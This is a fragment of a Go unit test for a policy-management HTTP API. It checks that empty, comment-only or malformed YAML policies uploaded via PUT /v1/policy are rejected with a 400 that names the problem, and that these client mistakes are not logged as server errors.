	e.api.Log = slog.New(slog.NewTextHandler(&buf, nil))
	for _, c := range []struct{ body, want string }{
		{"", "the policy is empty"},
		{"# nothing yet\n", "the policy is empty"},
		{"version: 1\nrules:\n  - {id: a, when: 'tool ==', decision: allow}\n", "rule a: when:"},
	} {
		res := e.do("PUT", "/v1/policy", "root", yamlBody(c.body))
		if res.Status != 400 || !strings.Contains(string(res.Body), c.want) {
			t.Errorf("PUT /v1/policy %q: %d %s, want 400 naming %q", c.body, res.Status, res.Body, c.want)
		}
	}
	if strings.Contains(buf.String(), "level=ERROR") {
		t.Errorf("a client's policy problem logged as a server error:\n%s", buf.String())
	}
}
